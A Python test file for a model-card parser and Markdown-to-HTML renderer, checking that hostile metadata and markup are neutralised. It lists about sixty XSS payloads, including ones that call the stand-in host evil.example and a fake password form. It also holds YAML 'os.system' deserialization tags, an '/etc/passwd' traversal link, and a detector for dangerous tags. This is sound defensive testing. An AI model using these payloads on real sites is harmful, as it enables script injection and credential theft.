"""Cards by anybody: read without failing, rendered without doing harm."""

# ruff: noqa: E501  cards and attacks stand as they are written
from __future__ import annotations

import json
import re
import time
from html.parser import HTMLParser

import pytest
from huggingface_hub import ModelCardData
from hypothesis import given, settings
from hypothesis import strategies as st

from modelcenter.registry.cards import Links, language_code, read_card, rendered

LINKS = Links("tsinghua/bert", "main")


def card_of(metadata: str, body: str = ""):
    return read_card(f"---\n{metadata}\n---\n{body}")


def html(markdown: str) -> str:
    return rendered(markdown, LINKS).html


# --- metadata


def test_metadata_becomes_typed_values():
    card = card_of(
        "language: [zh, en]\nlicense: apache-2.0\nlibrary_name: transformers\npipeline_tag: fill-mask\n"
        "tags: [bert]\nbase_model: google-bert/bert-base-chinese\ndatasets: wikipedia\n"
        "modelcenter: {family: bert, parameters: 102290312, context_length: 512, title: {zh: 中文 BERT}}"
    )
    assert card.languages == ("zh", "en")
    assert (card.license, card.library, card.pipeline_tag) == ("apache-2.0", "transformers", "fill-mask")
    assert (card.tags, card.base_models, card.datasets) == (
        ("bert",),
        ("google-bert/bert-base-chinese",),
        ("wikipedia",),
    )
    assert (card.facts.family, card.facts.parameters, card.facts.context_length) == ("bert", 102290312, 512)
    assert card.titles == {"zh": "中文 BERT"}
    assert card.errors == card.warnings == ()


def test_plain_scalars_follow_yaml_1_2():
    card = card_of("language: no\ndate: 2020-01-01\nversion: 1.10\nyes: on\nempty:\ntime: 12:30:00")
    assert card.languages == ("no",)
    assert card.metadata["date"] == "2020-01-01"
    assert card.metadata["yes"] == "on"
    assert card.metadata["time"] == "12:30:00"
    assert "empty" not in card.metadata


@pytest.mark.parametrize(
    "metadata",
    [
        "tags: 5",
        "tags: {a: 1}",
        "tags: [[nested], {deep: [er]}, null, true, ok]",
        "language: {zh: yes}",
        "license: [mit, 3.0]",
        "license: {name: mit}",
        "pipeline_tag: [a, b]",
        "library_name: 12",
        "model-index: 3",
        "model-index: [{name: x, results: [{task: {type: t}, dataset: {type: d, name: n}, metrics: 5}]}]",
        "model-index: [{name: x, results: [{task: {type: t}, dataset: {type: d, name: n}, metrics: [], source: text}]}]",
        "model-index: [{name: x, results: [{task: {type: t}, dataset: {type: d, name: n}, metrics: [], source: {name: n}}]}]",
        "5: five\nself: me\nignore_metadata_errors: 1",
        "eval_results: [1]",
        "base_model: [a/b, 7, null]\ndatasets: {}",
        'tags: ["\\0", "\\uD83D"]',
        "modelcenter: [1]",
        "modelcenter: {parameters: -1, context_length: many, num_layers: 1.5, hidden_size: 1e400, aliases: {a: b}}",
        "- a\n- list",
        "just text",
        "a: [unclosed",
        "a: b: c",
        "\t tabs",
        "!!python/object/apply:os.system [echo]",
        "a: !!python/name:os.system",
        "x: .inf\ny: .nan\nz: 1" + "0" * 5000,
    ],
)  # fmt: skip
def test_wrong_types_are_noted_and_never_reach_a_client(metadata):
    card = card_of(metadata, "# Title\n\nText of the card, long enough to be one.")
    ModelCardData(**card.metadata, ignore_metadata_errors=True)
    text = json.dumps(card.metadata, allow_nan=False)
    assert "\\u0000" not in text
    assert not re.search(r"\\ud[89a-f][0-9a-f]{2}(?!\\u)", text)
    assert all(isinstance(tag, str) for tag in card.tags)
    assert card.descriptions


def test_errors_say_what_was_found_and_expected():
    assert card_of("tags: {a: 1}").errors == ("tags holds a mapping; expected texts.",)
    assert "not valid YAML, line 3" in card_of("a: b\na: [").errors[0] or card_of("a: b\na: [").errors
    assert card_of("modelcenter: {parameters: -1}").errors == (
        "modelcenter.parameters is -1; expected a positive whole number.",
    )
    assert any("license: other" in error for error in card_of("license: my-own").errors)
    assert any("no metadata" in warning for warning in read_card("# Only text").warnings)


def test_alias_bombs_and_depths_end_quickly():
    bomb = "a: &a [x, x, x, x, x, x, x, x, x, x]\n"
    for before, name in zip("abcdefgh", "bcdefghi", strict=True):
        bomb += f"{name}: &{name} [{', '.join([f'*{before}'] * 10)}]\n"
    started = time.perf_counter()
    for metadata in (
        bomb,
        "a: " + "[" * 100_000,
        "a: &a [*a]",
        "a: &a {b: *a}",
        "? " * 50_000,
        "a: *nothing",
    ):
        card = card_of(metadata)
        assert card.metadata == {}
        assert card.errors
    assert time.perf_counter() - started < 10


def test_honest_aliases_work():
    card = card_of("tags: &t [a, b]\ndatasets: *t\n")
    assert card.tags == card.datasets == ("a", "b")


def test_huge_cards_are_bounded():
    card = card_of("tags: [" + ", ".join(f"t{i}" for i in range(100_000)) + "]")
    assert card.errors or len(card.tags) == 200
    assert len(card_of("x: " + "y" * 2_000_000).metadata) == 0
    assert read_card(b"\xff\xfe" + b"a" * 5_000_000).body


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=300))
def test_nothing_makes_reading_fail(text):
    for content in (text, f"---\n{text}\n---\n{text}", text.encode("utf-8", "surrogatepass")):
        card = read_card(content)
        json.dumps(card.metadata, allow_nan=False).encode()
        rendered(card.body, LINKS)


def test_both_languages_are_told_apart():
    card = card_of(
        "license: mit",
        "# BERT\n\n## 中文\n\n一个中文模型。\n\n## English\n\nA model for Chinese text.\n\n### Use\n\nLoad it.",
    )
    assert card.sections == {"zh": "一个中文模型。", "en": "A model for Chinese text.\n\n### Use\n\nLoad it."}
    assert card.descriptions == {"zh": "一个中文模型。", "en": "A model for Chinese text."}


def test_a_description_may_stand_right_below_its_heading():
    body = b"# all-MiniLM-L6-v2\nThis is a model: it maps sentences to vectors.\n\n## Usage\nLike this, it is easy:\n"
    assert read_card(body).descriptions == {"en": "This is a model: it maps sentences to vectors."}


def test_descriptions_skip_what_is_no_prose():
    body = "# T\n\n[![badge](https://x/y.svg)](https://x)\n\n<p align=center><img src=a.png></p>\n\n```\ncode\n```\n\n**Bert** is a [model](x) for `text` of all kinds.\n"
    assert read_card(body).descriptions == {"en": "Bert is a model for text of all kinds."}
    assert read_card("# 标题\n\n这是一个用于中文文本分类的模型。").titles == {"zh": "标题"}
    # Code may hold headings of neither language.
    assert read_card("```\n# 中文\n```\n\n## 中文\n\n甲乙丙丁戊\n").sections == {}


@pytest.mark.parametrize(
    ("spelling", "code"),
    [("zh-CN", "zh"), ("Chinese", "zh"), ("zho", "zh"), ("EN", "en"), ("yue", "yue"), ("pt-BR", "pt")],
)
def test_languages_have_one_code(spelling, code):
    assert language_code(spelling) == code


# --- rendering

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src='x' onerror='alert(1)'>",
    '<img """><script>alert("XSS")</script>">',
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><mi xlink:href='javascript:alert(1)' href='javascript:alert(1)'>x</mi></math>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object><embed src=javascript:alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<a href=' &#14; javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='//evil.example/x'>x</a>",
    "<a href='/\\evil.example'>x</a>",
    "[x](javascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](<java\nscript:alert(1)>)",
    "[x]: javascript:alert(1)\n\n[x]",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2Zy8+)",
    "<javascript:alert(1)>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<div style='position:fixed;top:0'>x</div>",
    "<style>body{display:none}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href='//evil.example/'>",
    "<form action='//evil.example'><input name=password type=password><button>Log in</button></form>",
    "<input type=text onfocus=alert(1) autofocus>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video src=x onerror=alert(1)></video><audio src=x onerror=alert(1)></audio>",
    "<body onload=alert(1)>",
    "<p id=main class='site-header modal'>x</p>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<!--<img src='--><img src=x onerror=alert(1)//'>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<template><script>alert(1)</script></template>",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "```<img/src=x/onerror=alert(1)>\nx\n```",
    "$\\text{<img src=x onerror=alert(1)>}$",
    "$$\n\\href{javascript:alert(1)}{x}\n$$",
    "$\\style{color:red}{x}$ $\\color{red}{x}$",
    "# <img src=x onerror=alert(1)>",
    "| a |\n|:-:|\n| <script>alert(1)</script> |",
    "[^1]\n\n[^1]: <script>alert(1)</script>",
    "<a href=\"x\" title=\"'><img src=x onerror=alert(1)>\">x</a>",
    "![\"><img src=x onerror=alert(1)>](https://evil.example/a.png)",
    "![<img src=x onerror=alert(1)>](https://evil.example/a.png \"t\")",
    "<img alt='&quot;><script>alert(1)</script>' src='https://evil.example/a.png'>",
    "<a href='https://ok.example'><img alt='</span><script>alert(1)</script>' src='https://evil.example/a.png'></a>",
]  # fmt: skip


class Harm(HTMLParser):
    """Notes what a browser would act on and a card must not hold."""

    TAGS = frozenset(
        [
            "script",
            "style",
            "iframe",
            "object",
            "embed",
            "link",
            "meta",
            "base",
            "form",
            "input",
            "button",
            "textarea",
            "select",
            "video",
            "audio",
            "svg",
            "body",
            "template",
        ]
    )

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag, attrs):
        if tag in self.TAGS:
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            value = re.sub(r"[\x00-\x20]", "", value or "")
            if name.startswith("on") or name in (
                "style",
                "srcdoc",
                "xlink:href",
                "action",
                "formaction",
                "srcset",
            ):
                self.found.append(f"{tag} {name}={value}")
            if name in ("href", "src") and not re.match(r"(?:https?://|mailto:|/(?![/\\])|#)", value):
                self.found.append(f"{tag} {name}={value}")
            if tag == "img" and name == "src" and not value.startswith("/"):
                self.found.append(f"outside image {value}")
            if name == "id" and not value.startswith("card-"):
                self.found.append(f"id {value}")
            if name == "class" and not re.fullmatch(r"(?:(?:hl-)?[a-z0-9-]+ ?)+", value):
                self.found.append(f"class {value}")
            if name == "class" and {"modal", "site-header"} & set((value or "").split()):
                self.found.append(f"class {value}")


@pytest.mark.parametrize("attack", ATTACKS)
def test_hostile_markdown_does_no_harm(attack):
    for markdown in (
        attack,
        f"text {attack} text",
        f"- {attack}",
        f"<div>\n\n{attack}\n\n</div>",
        f"> {attack}",
    ):
        harm = Harm()
        harm.feed(html(markdown))
        assert harm.found == []


@settings(max_examples=150, deadline=None)
@given(
    st.lists(
        st.sampled_from([*ATTACKS, "<", ">", '"', "'", "`", "\n\n", "[", "](", ")", "$", "|", "*", "&lt;"]),
        max_size=8,
    )
)
def test_mixtures_of_hostile_markdown_do_no_harm(parts):
    harm = Harm()
    harm.feed(html("".join(parts)))
    assert harm.found == []


def test_relative_links_lead_into_the_revision():
    page = html(
        "[a](LICENSE) [b](./docs/使用.md#top) [c](../../../etc/passwd) [d](img/) ![e](图/logo 1.png) [f](#用法)\n\n<img src='a b.png' width=300>"
    )
    for address in (
        'href="/tsinghua/bert/resolve/main/LICENSE"',
        'href="/tsinghua/bert/resolve/main/docs/%E4%BD%BF%E7%94%A8.md#top"',
        'href="/tsinghua/bert/resolve/main/etc/passwd"',
        'href="/tsinghua/bert/tree/main/img"',
        'href="#card-用法"',
        '<img src="/tsinghua/bert/resolve/main/a%20b.png" width="300">',
    ):
        assert address in page
    assert "/resolve/refs%2Fpr%2F1/" in rendered("[a](b)", Links("o/n", "refs/pr/1")).html


def test_images_from_elsewhere_become_links():
    page = html(
        "![logo](https://cdn.example/a.png) [![build](https://img.example/b.svg)](https://ci.example)"
    )
    assert "<img" not in page
    assert (
        '<a class="external-image" href="https://cdn.example/a.png" rel="nofollow noopener noreferrer">logo</a>'
        in page
    )
    assert (
        '<a href="https://ci.example" rel="nofollow noopener noreferrer"><span class="external-image">build</span></a>'
        in page
    )


def test_github_markdown_is_understood():
    page = html(
        "| a | b |\n|:--|--:|\n| 1 | 2 |\n\n~~old~~ https://x.example README.md\n\n- [x] done\n- [ ] open\n\n"
        "```python\ndef f(): pass\n```\n\nCosts $5 and $10. $a^2$\n\n$$\\frac{a}{b}$$\n\n中文[^1]\n\n[^1]: note"
    )
    assert '<td align="right">2</td>' in page
    assert "<s>old</s>" in page
    assert 'href="https://x.example"' in page
    assert "resolve/main/README.md" not in page
    assert "☑ done" in page
    assert "☐ open" in page
    assert '<span class="hl-k">def</span>' in page
    assert "Costs $5 and $10." in page
    assert "<msup>" in page
    assert '<math xmlns="http://www.w3.org/1998/Math/MathML" display="block">' in page
    assert 'id="card-fn1"' in page
    assert "style=" not in page


def test_headings_give_anchors_and_an_outline():
    found = rendered("# 模型 BERT!\n\n## Use `it`\n\n## Use it", LINKS)
    assert [(h.level, h.anchor, h.text) for h in found.headings] == [
        (1, "card-模型-bert", "模型 BERT!"),
        (2, "card-use-it", "Use it"),
        (2, "card-use-it-1", "Use it"),
    ]
    assert all(f'id="{heading.anchor}"' in found.html for heading in found.headings)


def test_formulas_that_cannot_be_read_stay_as_written():
    assert "\\frac{" in html("$\\frac{$") or "math" in html("$\\frac{$")
    assert html("$" + "{" * 3000 + "$")


@pytest.mark.parametrize("text", ["# a" + " " * 100_000 + "b", "# " + "![a" * 60_000, "# " + "*a " * 50_000, "*a " * 50_000, "[" * 50_000, "*a_" * 20_000, "> " * 5_000 + "x", "<" * 50_000, "![" * 20_000, "- " * 3_000 + "x", "`" * 50_000, "$" * 50_000, "a|" * 20_000, "<img " * 20_000, "http://" * 5_000, "&" * 50_000, "~~a" * 20_000], ids=lambda text: text[:6])  # fmt: skip
def test_no_markdown_takes_long(text):
    started = time.perf_counter()
    card = read_card(text)
    html(card.body)
    assert time.perf_counter() - started < 10
